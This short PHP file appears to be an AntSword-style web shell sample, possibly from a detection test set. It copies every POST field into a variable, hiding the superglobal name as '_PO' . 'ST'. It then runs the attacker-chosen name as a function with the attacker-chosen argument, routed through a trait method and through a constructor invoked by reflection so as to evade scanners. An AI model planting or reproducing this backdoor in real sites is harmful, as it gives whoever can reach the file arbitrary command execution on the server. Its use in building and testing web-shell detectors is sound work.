<?php
// AntSword-style: the POST pair becomes variables, then reaches a trait method and a constructor
trait Feeder
{
    public function feed($what, $how)
    {
        $what($how);
    }
}

class Base
{
    public function feed()
    {
        echo 'base';
    }
}

class Pet extends Base
{
    use Feeder;
}

class Runner
{
    public function __construct($f, $a)
    {
        $f($a);
    }
}

foreach (array('_PO' . 'ST') as $_r) {
    foreach ($$_r as $_k => $_v) {
        $$_k = $_v;
    }
}
$pet = new Pet();
$pet->feed($_k, $_v);
$rc = new ReflectionClass('Runner');
$rc->newInstanceArgs(array($_k, $$_k));
